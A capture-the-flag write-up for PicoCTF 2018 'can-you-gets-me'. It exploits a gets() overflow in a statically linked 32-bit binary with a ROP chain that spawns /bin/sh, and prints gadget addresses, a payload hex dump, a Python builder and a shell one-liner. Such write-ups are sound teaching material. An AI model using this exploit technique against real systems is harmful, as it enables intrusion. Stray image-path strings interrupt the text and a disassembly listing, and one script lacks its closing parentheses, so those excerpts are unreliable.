PicoCTF 2018 - can-you-gets-me

Note: This article is part of our PicoCTF 2018 BinExp Guide.

Spot the Bug

For one last time, here’s the classic gets vulnerability that we’ve covered in so many other buffer-overflow challenges (buffer-overflow-1, buffer-overflow-2, got-2-learn-libc, rop-chain, …)

void vuln() {
  char buf[16];
  printf("GIVE ME YOUR NAME!\n");
  return gets(buf);


This time around the C code is very sparse. We see the vuln function, but not much else. However, the size of the binary is actually quite hefty (709KiB, when most of the challenges are less than 10KiB). What gives?

It appears that this binary has been compiled and statically linked against libc. That means that instead of dynamically linking againstwhatever base version of libc is present on the system, a version of libc has been compiled directly into the binary itself.

How does this help us? Well, due to it’s hefty size, there should be a fair number of gadgets for us to ROP into. Note, this is a 32-bit linux binary, so we will essentially want to execute the same instructions we did in shellcode, but this time we’ll construct the individual components out of gadgets.

There are some different tools to analyze binaries for the gadgets they contain, I recommend ropper, but there are many other options, including a very simple one built-in to pwntools.

Background Info

Using exactly the same technique as shellcode, we want to run the execve system call. To do that, we need the following registers set to these values:

  • eax = 0x0b
  • ebx = &"/bin/sh"
  • ecx = &0
  • edx = &0

At a minimum, you will need gadgets to set eax, ebx, ecx, and edx. You will also need a writeable block of memory to store the command string, and a primitive to move content from registers into writeable memory.

NOTE: Here’s how you’dfind these gadgets using ropper:

$ ropper
(ropper)> file gets
[INFO] Load gadgets from cache
[LOAD] loading... 100%
[LOAD] removing double gadgets... 100%
[INFO] File loaded.

(gets/ELF/x86)> search pop eax
[INFO] Searching for gadgets: pop eax[INFO] File: gets
0x080b84d6: pop eax;ret;

(gets/ELF/x86)> search mov [%], eax
[INFO] Searching for gadgets: mov [%], eax

[INFO] File: gets
0x08054b4b: mov dword ptr [edx], eax; ret;

And here’s a list of gadgets that I’ve found, but you should figure out how to search binaries for your own gadgets:

0x08054b4b: mov dword ptr [edx], eax; ret;
0x0806f19a: pop edx; ret;
0x0806f1c0: pop edx; pop ecx; pop ebx; ret;
0x0806f7a0: int 0x80; ret;
0x080b84d6: pop eax; ret;

Next up, we need to store the null-terminated string "/bin/sh" in memory somewhere, as well as a NULL pointer(4 null bytes). If we shove the 4-byte NULL immediately after the string "/bin/sh", then the first byte can serve double-duty: it’ll also be the string terminator. However, the string "/bin/sh" (without the null terminator) is 7 chars long, which is annoying because we will be popping of the stack 4 bytes (1 dword) at a time. However, it turns out execve will ignore multiple consecutive '/'s in a row, so what we’ll use instead is an 8 byte string like "/bin//sh". Also, note that gets() writes directly into the buffer, so null characters are not a problem (but newline characters are).

Next, we need an address of writeable memory. Since we don’t really care about the current state of the program, we’re just going to use the beginning of the .data segment.

$ readelf -S gets | grep ' .data '
  [24] .data             PROGBITS        080ea060 0a1060 000f20 00  WA  0   0 32

Finally, how many bytes should go in the buffer before we overwrite the return address of vuln?push   ebp
  mov    ebp,esp
  sub    esp,0x18
  ; ...
  sub    esp,0xc
  lea    eax,[ebp-0x18]
  push   eax
  call   804f290 <_IO_gets>
  add    esp,0x10That’s right: 0x18 (24) bytes for the buffer, plus 4 bytes for the preserved ebp register.

If you’re confident in your skills, try the challenge out at /problems/can-you-gets-me_1_e66172cf5b6d25fffee62caf02c24c3d on the shell server now.


Let’s list the gadgets (and their arguments) that you need to execute:

  1. Pop "/bin" into eax
  2. Pop 0x080ea060 into edx
  3. Move eax into [edx]
  4. Pop "//sh" into eax
  5. Pop 0x080ea064 into edx
  6. Move eax into [edx]
  7. Pop 0x00000000 into eax8. Pop 0x080ea068 into edx
  9. Move eax into [edx]
  10. Pop 0x000000b into eax
  11. Pop 0x080ea060 into ebx, 0x080ea068 into ecx, and 0x080ea068 into edx
  12. Int 0x80

Which means you could construct a bufferby hand like this:

55 55 55 55 55 55 55 55 55 55 55 55 55 55 <- padding
55 55 55 55 55 55 55 55 55 55 55 55 55 55 <- padding

d6 84 0b 08 <- 1. pop eax; ret; (gadget)
2f 62 69 6e<- 1. "/bin"

9a f1 06 08 <- 2. pop edx; ret; (gadget)
60 a0 0e 08 <- 2. 0x080ea060

4b 4b 05 08 <- 3. mov dword ptr [edx], eax; ret; (gadget)

d6 84 0b 08 <- 4. pop eax; ret; (gadget)
2f 2f 73 68 <- 4. "//sh"9a f1 06 08 <- 5. pop edx; ret; (gadget)
64 a0 0e 08 <- 5. 0x080ea064

4b 4b 05 08 <- 6. mov dword ptr [edx], eax; ret; (gadget)

d6 84 0b 08 <- 7. pop eax; ret; (gadget)
00 00 00 00 <- 7. 0x00

9a f1 06 08 <- 8. pop edx; ret; (gadget)
68 a0 0e 08 <- 8. 0x080ea068

4b 4b 05 08 <- 9. mov dword ptr [edx], eax; ret; (gadget)

d6 84 0b 08 <- 10. pop eax; ret; (gadget)
0b 00 00 00 <- 10. 0x0b

c0 f1 06 08 <- 11. 0x0806f1c0: pop edx; pop ecx; pop ebx; ret; (gadget)
68 a0 0e 08 <- 11. edx = 0x080ea068
68 a0 0e 08 <- 11. ecx = 0x080ea068
60 a0 0e 08 <- 11. ebx = 0x080ea060

a0 f7 06 08 <- 12. int 80 (gadget)

Or, the same thing, but constructed in python:

#!/usr/bin/env python
# works with python2 or python3
import struct, os

p = lambda x : struct.pack('<I', x)os.write(1, (b'U'*28 +
      p(0x080b84d6) + b'/bin' +       # pop eax gadget
      p(0x0806f19a) + p(0x080ea060) + # pop edx gadget
      p(0x08054b4b) +                 # mov dword ptr [edx], eax gadget
      p(0x080b84d6) + b'//sh' +       # pop eax gadget
      p(0x0806f19a) + p(0x080ea064) + # pop edx gadget
      p(0x08054b4b) +                 # mov dword ptr [edx], eax gadget
      p(0x080b84d6) + p(0x00000000) + # pop eax gadget
      p(0x0806f19a) + p(0x080ea068) + # pop edx gadget
      p(0x08054b4b) +                 # mov dword ptr [edx], eax gadget
      p(0x080b84d6) + p(0x0000000b) + # pop eax gadget
      p(0x0806f1c0) + p(0x080ea068) + p(0x080ea068) + p(0x080ea060) + # pop edx,ecx,ebx gadget
      p(0x0806f7a0) + b'\n'           # int 0x80 gadget

Finally, you can verify that it all works as expected:

$ cd /problems/can-you-gets-me_1_e66172cf5b6d25fffee62caf02c24c3d
$ (python -c 'import struct, os; p = lambda x : struct.pack("<I", x); os.write(1, (b"U"*28 + p(0x080b84d6) + b"/bin" + p(0x0806f19a) + p(0x080ea060) + p(0x08054b4b) + p(0x080b84d6) + b"//sh" + p(0x0806f19a) + p(0x080ea064) + p(0x08054b4b) + p(0x080b84d6) + p(0x00000000) + p(0x0806f19a) + p(0x080ea068) + p(0x08054b4b) + p(0x080b84d6) + p(0x0000000b) + p(0x0806f1c0) + p(0x080ea068) + p(0x080ea068) + p(0x080ea060) + p(0x0806f7a0) + b"\n"))'; cat -) | ./gets
flag.txt  gets  gets.c
cat flag.txt

Congrats: You’ve now mastered every single bufferoverflow exploit, head backto the PicoCTF 2018 BinExp Guide to continue with the heap challenges!